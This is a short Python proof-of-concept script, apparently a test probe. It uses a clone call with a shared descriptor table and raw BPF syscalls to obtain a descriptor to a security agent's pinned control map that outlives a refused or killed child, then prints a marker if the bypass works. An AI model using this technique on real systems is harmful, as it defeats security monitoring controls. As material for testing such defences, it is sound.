"""Reads a map of the agent's by a descriptor that outlives who asked for it: `outlive.py MARK PINS`. Prints MARK when it could."""

import ctypes
import glob
import os
import signal
import struct
import sys

BPF, CLONE = 321, 56
LOOK_UP, GET = 1, 7
CLONE_FILES = 0x400

mark, pins = sys.argv[1:]
path = ctypes.create_string_buffer(glob.glob(f"{pins}/*/maps/control")[0].encode())
libc = ctypes.CDLL(None, use_errno=True)


def bpf(command, *words):
    attributes = ctypes.create_string_buffer(struct.pack(f"{len(words)}Q", *words), 64)
    return libc.syscall(BPF, command, attributes, 64)


child = libc.syscall(CLONE, CLONE_FILES | signal.SIGCHLD, 0, 0, 0, 0)
if not child:
    # Whoever asks is refused, or killed.
    os._exit(bpf(GET, ctypes.addressof(path)) < 0)
os.waitpid(child, 0)
key, value = ctypes.create_string_buffer(4), ctypes.create_string_buffer(8)
for descriptor in range(3, 64):
    if bpf(LOOK_UP, descriptor, ctypes.addressof(key), ctypes.addressof(value)) == 0:
        print(mark)
        sys.exit()
sys.exit("no descriptor is left")
